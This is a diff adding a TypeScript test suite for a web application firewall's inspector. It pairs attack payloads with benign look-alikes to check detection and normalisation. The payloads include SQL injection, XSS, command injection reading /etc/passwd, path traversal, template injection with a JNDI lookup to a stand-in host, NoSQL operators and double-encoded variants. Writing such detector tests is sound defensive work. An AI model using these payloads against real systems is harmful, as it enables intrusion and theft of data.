@@ -1,0 +1,141 @@
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { Inspector } from '../../src/waf/inspector.js';
+import { normaliseValue, percentDecodeOnce, decodeHtmlEntities } from '../../src/waf/normalise.js';
+import type { AttackClass } from '../../src/waf/classes.js';
+import { allClasses } from './corpus.js';
+
+const pl1 = allClasses(1);
+const classOf = (value: string, urlDecode = false) => pl1.inspectValue(value, urlDecode)?.class;
+
+const TABLES: Record<string, { attacks: string[]; benign: string[] }> = {
+  sqli: {
+    attacks: [
+      "' OR '1'='1",
+      "admin'--",
+      '1 UNION SELECT 1,2',
+      '1; DROP TABLE users',
+      "1' AND SLEEP(5)--",
+      '1 or 1=1',
+      "') or ('a'='a",
+    ],
+    benign: [
+      "O'Brien",
+      'select the best option from the menu',
+      'Order by phone',
+      "It's 5 o'clock",
+      '1 + 1 = 2, and 2 + 2 = 4.',
+    ],
+  },
+  xss: {
+    attacks: [
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '" onmouseover="alert(1)',
+      'javascript:alert(1)',
+      '<svg/onload=alert(1)>',
+    ],
+    benign: ['<b>bold</b>', 'a < b and c > d', 'JavaScript: The Good Parts', 'List<String>', 'online=true'],
+  },
+  cmdi: {
+    attacks: ['; cat /etc/passwd', '| id', '$(whoami)', '`uname -a`', ";w'h'o'am'i", 'a && sleep 5'],
+    benign: [
+      'Tom & Jerry; cat lovers',
+      "Ben & Jerry's",
+      'Salt & pepper | to taste',
+      'Sleep is important; get 8 hours.',
+    ],
+  },
+  traversal: {
+    attacks: [
+      '../../../etc/passwd',
+      '..\\..\\windows\\win.ini',
+      '/proc/self/environ',
+      'php://filter/resource=index.php',
+      '....//....//etc/passwd',
+    ],
+    benign: [
+      '../README.md is in the parent folder',
+      'Wait... what?!',
+      'C:\\Users\\Public\\report.docx',
+      'src/components/Button.tsx',
+    ],
+  },
+  ssti: {
+    attacks: [
+      '{{7*7}}',
+      '${7*7}',
+      "{{ ''.__class__.__mro__ }}",
+      '${jndi:ldap://evil.example/a}',
+      '<%= system("id") %>',
+    ],
+    benign: ['Hello {{name}}', 'Dear ${firstName}', '{% if user %}Hi{% endif %}', 'console.log(`${a}`)'],
+  },
+  nosqli: {
+    attacks: ['{"$ne": null}', "'; return true; var x='", "' || '1'=='1"],
+    benign: ['The price is $5', 'Costs $10 (was $12)'],
+  },
+};
+
+for (const [cls, table] of Object.entries(TABLES)) {
+  describe(`${cls} at the default level`, () => {
+    test('attacks are flagged by this class alone', () => {
+      const only = new Inspector({ paranoia: 1, classes: new Set([cls as AttackClass]) });
+      for (const attack of table.attacks) assert.equal(only.inspectValue(attack, false)?.class, cls, attack);
+    });
+    test('honest look-alikes pass', () => {
+      for (const text of table.benign) assert.equal(pl1.inspectValue(text, false), undefined, text);
+    });
+  });
+}
+
+describe('NoSQL operators in keys', () => {
+  test('operator keys, bracketed and dotted query keys are flagged; JSON Schema keywords are not', () => {
+    for (const key of ['$ne', '$where', '$regex', 'password[$ne]', 'a[b][$gt]', 'user.$in'])
+      assert.equal(pl1.inspectKey(key)?.class, 'nosqli', key);
+    for (const key of ['$schema', '$ref', '$id', 'price$', 'a[b]'])
+      assert.equal(pl1.inspectKey(key), undefined, key);
+    assert.equal(allClasses(3).inspectKey('$schema')?.rule, 'nosqli.dollar-key');
+  });
+});
+
+describe('decoding once', () => {
+  test('HTML entities, full-width forms and NUL are normalised before matching', () => {
+    assert.equal(classOf('&lt;script&gt;alert(1)&lt;/script&gt;'), 'xss');
+    assert.equal(classOf('&#x3c;img src=x onerror=alert(1)&#x3e;'), 'xss');
+    assert.equal(classOf('＜script＞alert(1)＜/script＞'), 'xss');
+    assert.equal(classOf('<a href="jav&#x09;ascript:alert(1)">'), 'xss');
+    const n = normaliseValue('a\0b');
+    assert.deepEqual([n.text, n.hadNul], ['ab', true]);
+    assert.equal(classOf('file.php\0.jpg'), 'encoding');
+  });
+  test('JSON strings get the one URL-decode; transport-decoded values do not get a second', () => {
+    assert.equal(classOf('%27%20OR%201%3D1--', true), 'sqli'); // JSON string: decoded once, then matched
+    assert.equal(percentDecodeOnce('%2527'), '%27'); // only one level comes off
+    assert.equal(percentDecodeOnce('100%'), '100%');
+    assert.equal(decodeHtmlEntities('&amp;lt;'), '&lt;');
+  });
+  test('double encoding is caught: the once-decoded value still carries an encoded metacharacter', () => {
+    // ?q=%2527%20OR%201=1 arrives as "%27 OR 1=1" after the query string's one decode
+    assert.equal(pl1.inspectValue('%27 OR 1=1', false)?.rule, 'encoding.double-encoded');
+    assert.equal(pl1.inspectValue('%3Cscript%3E', false)?.rule, 'encoding.double-encoded');
+    assert.equal(pl1.inspectValue('..%2f..%2fetc%2fpasswd', false)?.class, 'traversal');
+    // an honest percent-encoded URL inside JSON is decoded once and passes
+    assert.equal(pl1.inspectValue('https://de.wikipedia.org/wiki/M%C3%BCnchen', true), undefined);
+  });
+});
+
+describe('paranoia levels and classes', () => {
+  test('higher levels flag more', () => {
+    assert.equal(pl1.inspectValue('../README.md', false), undefined);
+    assert.equal(allClasses(2).inspectValue('../README.md', false)?.class, 'traversal');
+    assert.equal(allClasses(2).inspectValue('<p>hi</p>', false), undefined);
+    assert.equal(allClasses(3).inspectValue('<p>hi</p>', false)?.class, 'xss');
+  });
+  test('a class that is not enabled never fires; skipped classes are skipped per call', () => {
+    const onlySql = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
+    assert.equal(onlySql.inspectValue('<script>alert(1)</script>', false), undefined);
+    assert.equal(onlySql.inspectKey('$ne'), undefined);
+    assert.equal(pl1.inspectValue('<script>alert(1)</script>', false, new Set(['xss'])), undefined);
+  });
+});
